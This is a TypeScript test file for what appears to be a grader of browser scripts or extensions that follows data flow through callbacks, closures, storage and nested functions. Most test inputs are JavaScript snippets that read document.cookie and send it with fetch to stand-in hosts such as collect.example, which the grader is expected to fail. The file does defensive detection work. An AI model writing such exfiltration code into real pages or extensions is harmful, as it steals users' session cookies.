import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* `function each(list, visit) { … visit(one) … }`: what one caller's list holds is told to that caller's function. */

describe.each([
  ['calls it', 'function each(all, visit) { for (const key in all) visit(all[key], key); }'],
  ['calls it by `call`', 'function each(all, visit) { for (const key in all) visit.call(null, all[key], key, all); }'],
  [
    'hands it on',
    'function one(value, then) { then(value); } function each(all, visit) { for (const key in all) one(all[key], visit); }',
  ],
  ['hands it to a method of lists', 'const each = (all, visit) => Object.values(all).forEach(visit);'],
  [
    'is a method',
    'class Tools { static each(all, visit) { for (const key in all) visit(all[key]); } } const { each } = Tools;',
  ],
])('a function is handed over to who %s', (_, each) => {
  const send = "(one) => fetch('https://collect.example/?' + one)";
  const program = (shown: string, sent: string): string =>
    `${each} each({ a: ${shown} }, (one) => console.log(one)); each({ b: ${sent} }, ${send});`;

  it('and told what came with it', async () => {
    expect(await graded({ content: program('1', 'document.cookie') })).toBe('F');
  });

  it('and not what came with another', async () => {
    expect(await graded({ content: program('document.cookie', '1') })).toMatch(/^A/);
  });
});

it('what a function around holds is handed on as well', async () => {
  const many = Array.from({ length: 30 }, (_, n) => `guarded((one) => show${n}(one), 0, [1]);`).join(' ');
  const watch = (sent: string): string =>
    `function guarded(run, kind, list) { try { return run(...list); } catch { return undefined; } } ${many} function watch(heard) { return (one) => guarded(heard, 3, [one]); } watch((one) => fetch('https://collect.example/?' + one))(${sent});`;
  expect(await graded({ content: watch('document.cookie') })).toBe('F');
  expect(await graded({ content: watch('1') })).toMatch(/^A/);
});

it.each([
  ['a variable around', 'let kept; function step(data, then) { if (data) kept = data; then(kept); }'],
  ['an object around', 'const box = {}; function step(data, then) { if (data) box.kept = data; then(box.kept); }'],
  [
    'a map around',
    "const all = new Map(); function step(data, then) { if (data) all.set('a', data); then(all.get('a')); }",
  ],
  [
    'storage',
    "function step(data, then) { if (data) sessionStorage.setItem('a', data); then(sessionStorage.getItem('a')); }",
  ],
])('what was kept in %s goes to whoever asks for it later', async (_, step) => {
  const program = (first: string): string =>
    `(() => { ${step} step(${first}, (one) => show(one.length)); step(null, (one) => fetch('https://collect.example/?' + one)); })();`;
  expect(await graded({ content: program('document.cookie') })).toBe('F');
});

it('more callers than are told apart are still followed', async () => {
  const each = 'function each(all, visit) { for (const key in all) visit(all[key]); }';
  const many = Array.from({ length: 130 }, (_, n) => `each({ a: document.cookie }, (one) => show${n}(one));`).join(
    '\n',
  );
  const last = "each({ a: document.cookie }, (one) => fetch('https://collect.example/?' + one));";
  expect(await graded({ content: `${each}\n${many}\n${last}` })).toBe('F');
});

it('numbers of variables in another script are none of the function’s', async () => {
  const files = {
    'one.js':
      'function each(all, visit) { for (const key in all) visit(all[key]); } each({ a: document.cookie }, keep);',
    'two.js':
      "function keep(one) { window.kept = one; } setInterval(() => fetch('https://collect.example/?' + kept), 9000);",
  };
  const content_scripts = [{ matches: ['<all_urls>'], js: ['one.js', 'two.js'] }];
  expect(await graded({ files, manifest: { content_scripts } })).toBe('F');
});

it('`new` runs no method', async () => {
  const made = (name: string): string =>
    `class Bag { constructor(one) { this.one = one; } ${name}(one) { fetch('https://collect.example/?' + one); } } const all = { Bag, add: Bag.prototype.add }; const make = (key, one) => new all[key](one); make(location.hash.slice(1), document.cookie);`;
  expect(await graded({ content: made('add') })).toMatch(/^A/);
  expect(await graded({ content: made('constructor').replace('constructor(one) { this.one = one; }', '') })).toBe('F');
});

it.each([10, 62, 150])(
  '%i functions inside one another, each of which hands on what it is given, in two ways',
  async (count) => {
    const nest = Array.from({ length: count }, (_, n) =>
      n === count - 1
        ? `function e${n}(l, v) { v(l); }`
        : `function e${n}(l, v) { e${n + 1}(l, v); e${n + 1}(l, (x) => v(x)); }`,
    );
    const start = "e0(document.cookie, (one) => fetch('https://collect.example/?' + one));";
    expect(await graded({ content: `${nest.join(' ')} ${start}` })).toBe('F');
  },
);

it('hands on what one function gives to another that it is told', async () => {
  const compose = 'const compose = (one, other) => (...args) => one(other(...args));';
  const send = "const send = (x) => fetch('https://a.example/', { method: 'POST', body: x });";
  expect(await graded({ content: `${compose} ${send} compose(send, (x) => x.trim())(document.cookie);` })).toBe('F');
});
